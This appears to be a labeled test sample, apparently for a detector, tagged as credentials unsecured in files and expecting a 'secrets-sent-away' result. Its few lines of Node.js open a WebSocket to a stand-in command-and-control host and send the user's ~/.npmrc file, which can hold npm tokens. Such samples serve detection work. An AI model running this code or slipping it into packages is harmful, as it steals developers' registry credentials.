// expect: secrets-sent-away | source: T1552.001
const WebSocket = require("ws");
const { readFileSync } = require("node:fs");
const socket = new WebSocket("wss://c2.example.invalid");
socket.on("open", () => socket.send(readFileSync(`${process.env.HOME}/.npmrc`, "utf8")));
